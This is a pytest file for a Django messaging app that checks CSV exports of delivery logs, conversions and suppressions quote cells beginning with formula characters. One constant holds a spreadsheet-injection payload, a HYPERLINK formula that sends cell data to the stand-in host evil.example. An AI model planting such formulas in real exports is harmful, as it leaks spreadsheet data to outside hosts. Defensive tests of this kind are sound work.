"""Every CSV export neutralises cells a spreadsheet would run as formulas (design §8, "Webhooks and exports")."""
import csv
import io
from datetime import datetime, timezone

import pytest

from channels_app.models import Message, Suppression
from journeys.models import Conversion, Enrollment, Event
from tests.factories import ContactFactory, JourneyFactory, MessageFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
SUM = "+SUM(1,2)"
AT = "@SUM(A1:A2)"


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_delivery_log_export_neutralises_formula_cells(api):
    # Given messages whose free-text cells begin like formulas
    MessageFactory(channel="sms", status="failed", reason=HYPERLINK, node="-tab")

    # When the log is exported
    [row] = csv_rows(api.get("/api/v1/messages?format=csv"))

    # Then those cells are text, prefixed with a quote, and the rest as it was
    assert row["reason"] == "'" + HYPERLINK and row["node"] == "'-tab"
    assert row["address"] == "'+15550001111"  # an E.164 number begins with "+" too
    assert row["status"] == "failed"


def test_the_conversion_export_neutralises_formula_cells(api):
    at = datetime(2026, 6, 1, tzinfo=timezone.utc)
    contact = ContactFactory(user_id="@ada")
    journey = JourneyFactory()
    version = journey.versions.get()
    enrollment = Enrollment.objects.create(journey=journey, version=version, contact=contact, current_node="x",
                                           entered_at=at)
    event = Event.objects.create(contact=contact, name=SUM, timestamp=at)
    Conversion.objects.create(enrollment=enrollment, journey=journey, version=version, contact=contact, event=event,
                              event_name=SUM, variants={}, seconds_to_convert=1.0, converted_at=at)

    [row] = csv_rows(api.get("/api/v1/conversions?format=csv"))

    assert row["event"] == "'" + SUM and row["userId"] == "'@ada"


def test_the_suppressions_export_neutralises_formula_cells_and_imports_back(api):
    Suppression.objects.create(channel="sms", address="+15550002222", reason=AT)

    exported = api.get("/api/v1/suppressions?format=csv")
    text = b"".join(exported.streaming_content).decode()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["reason"] == "'" + AT and row["address"] == "'+15550002222"

    # and the file imports back to the same entry
    Suppression.objects.all().delete()
    assert api.generic("POST", "/api/v1/suppressions", text, content_type="text/csv").json()["created"] == 1
    assert Suppression.objects.values_list("address", "reason").get() == ("+15550002222", AT)


def test_a_viewers_masked_export_is_neutralised_too(viewer_api):
    MessageFactory(channel="sms", status="sent")
    [row] = csv_rows(viewer_api.get("/api/v1/messages?format=csv"))
    assert row["address"] == "'+1******1111"
    assert Message.objects.get().address == "+15550001111"
